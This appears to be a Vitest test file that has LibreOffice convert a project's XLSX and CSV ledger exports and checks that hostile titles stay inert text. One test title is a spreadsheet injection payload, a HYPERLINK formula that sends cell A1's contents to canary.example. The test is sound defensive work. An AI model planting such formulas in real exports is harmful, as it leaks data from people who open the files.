import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { exportName, ledgerColumns } from "@signalbox/core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { entry, hostile, some } from "./entries-under-test.ts";
import { csvFile } from "./text-files.ts";
import { xlsxFile } from "./xlsx-file.ts";

const program = process.env.SIGNALBOX_LIBREOFFICE;
const titles = [...hostile, '=HYPERLINK("http://canary.example/?"&A1;"click")', "+1", "@x", "-1", "1e5", "2026-11-20"];
const entries = titles.map((title, i) => ({ ...entry, title, componentName: title, documentNo: i + 1 }));

interface Cell {
  /** `float`, `date`, `string`; null: empty. */
  type: string | null;
  text: string;
}

/** A spreadsheet as LibreOffice reads it, by rows: its flat XML says of each cell what it is. */
function readSheet(folder: string, file: string, filter: readonly string[]): { xml: string; rows: Cell[][] } {
  const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
  const options = ["--headless", profile, ...filter, "--convert-to", "fods", "--outdir", folder, join(folder, file)];
  const { status, stderr } = spawnSync(program!, options, { timeout: 120_000 });
  if (status !== 0) throw new Error(`${program} ended with ${status}: ${stderr.toString()}`);
  const xml = readFileSync(join(folder, file.replace(/\.\w+$/, ".fods")), "utf8");
  const [, table = ""] = xml.split(/<table:table table:name/);
  const rows = [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row = ""]) =>
    [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(
      ([, attributes = "", content = ""]) => {
        const cell = {
          type: /office:value-type="(\w+)"/.exec(attributes)?.[1] ?? null,
          text: unescaped(content.replaceAll(/<\/text:p>\s*<text:p[^>]*>/g, "\n").replaceAll(/<[^>]+>/g, "")).trim(),
        };
        const times = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
        return Array.from({ length: Math.min(times, ledgerColumns.length) }, () => cell);
      },
    ),
  );
  return { xml, rows };
}

/** Formulas and links; LibreOffice itself keeps a yes or no as a formula. */
function activeParts(xml: string): string[] {
  const parts = xml.match(/table:formula="[^"]*"|<text:a [^>]*>/g) ?? [];
  return parts.filter((part) => !/^table:formula="of:=(TRUE|FALSE)\(\)"$/.test(part));
}

function unescaped(text: string): string {
  return text
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&apos;", "'")
    .replaceAll("&amp;", "&");
}

// The program is brought for the nightly run alone: to install it takes longer than this repository's tests.
describe.runIf(program)("what LibreOffice makes of the export", () => {
  let folder: string;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "sheets-"));
    const write = async (file: string, chunks: AsyncIterable<Uint8Array>) => {
      const read: Uint8Array[] = [];
      for await (const chunk of chunks) read.push(chunk);
      writeFileSync(join(folder, file), Buffer.concat(read));
    };
    await write("sheet.xlsx", xlsxFile(some(entries), [["rows", entries.length]]));
    await write("text.csv", csvFile(some(entries)));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  const at = (cells: readonly Cell[], column: (typeof ledgerColumns)[number]) => cells[ledgerColumns.indexOf(column)]!;

  it("XLSX: text is text, numbers are numbers, instants are dates, and nothing is a formula or a link (L2)", () => {
    const { xml, rows } = readSheet(folder, "sheet.xlsx", []);
    expect(activeParts(xml)).toEqual([]);
    expect(rows[0]!.slice(0, 3).map(({ text }) => text)).toEqual(ledgerColumns.slice(0, 3).map(exportName));
    for (const [i, { title }] of entries.entries()) {
      const cells = rows[i + 1]!;
      const types = (["title", "componentName", "documentNo", "cost", "grossSeconds", "startedAt"] as const).map(
        (column) => at(cells, column).type,
      );
      expect([title, types]).toEqual([title, ["string", "string", "float", "float", "float", "date"]]);
      if (/^[\x20-\x7e]+$/.test(title) && !title.startsWith("_x")) expect(at(cells, "title").text).toBe(title);
    }
  });

  it("CSV: cells that look like formulas are text that says so, and negative amounts are numbers (L1, L3)", () => {
    // Comma, double quote, UTF-8; numbers and dates are looked for, formulas are worked out.
    const filter = ["--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1,true"];
    const { xml, rows } = readSheet(folder, "text.csv", filter);
    expect(activeParts(xml)).toEqual([]);
    for (const [i, { title }] of entries.entries()) {
      const cells = rows[i + 1]!;
      expect([title, at(cells, "cost")]).toEqual([title, { type: "float", text: "-1200" }]);
      expect([title, at(cells, "grossSeconds").type]).toEqual([title, "float"]);
      if (/^[=+\-@]/.test(title)) {
        expect([title, at(cells, "title").type, at(cells, "title").text[0]]).toEqual([title, "string", "'"]);
      }
    }
  });
});
